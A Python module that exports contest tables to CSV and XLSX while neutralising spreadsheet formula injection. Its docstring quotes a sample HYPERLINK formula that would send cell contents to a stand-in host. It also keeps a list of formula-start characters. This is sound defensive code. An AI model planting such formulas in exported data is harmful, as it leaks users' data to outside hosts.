"""Tables for organizers' spreadsheets (CSV and XLSX), safe to open in Excel or WPS.

Text from contestants (titles, collectives) can start with `=`, `+`, `-`, `@`, a tab or a
carriage return, which spreadsheet programs run as a formula: `=HYPERLINK("http://x/?"&C2)`
would send the neighbouring cells away when clicked. Every text cell that starts so is
neutralised (OWASP's CSV-injection rule): in CSV it gets a leading apostrophe, which the
programs hide; in XLSX it is stored as a string cell, never as a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MIMETYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def is_formula_like(value: Any) -> bool:
    """Would a spreadsheet program read this cell as a formula?"""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: formula-like text behind an apostrophe."""
    return "'" + value if is_formula_like(value) else value


def to_csv(header: Sequence[str], body: Sequence[Sequence[Any]]) -> str:
    """CSV with a byte-order mark, which Excel needs to open UTF-8 Chinese."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerow([csv_cell(v) for v in header])
    writer.writerows([csv_cell(v) for v in line] for line in body)
    return out.getvalue()


def to_xlsx(header: Sequence[str], body: Sequence[Sequence[Any]], title: str) -> bytes:
    """One sheet named `title`; text is always text, never a formula."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = title
    for line in [header, *body]:
        sheet.append(list(line))
        for cell in sheet[sheet.max_row]:
            # openpyxl turns any string starting with "=" into a formula cell.
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
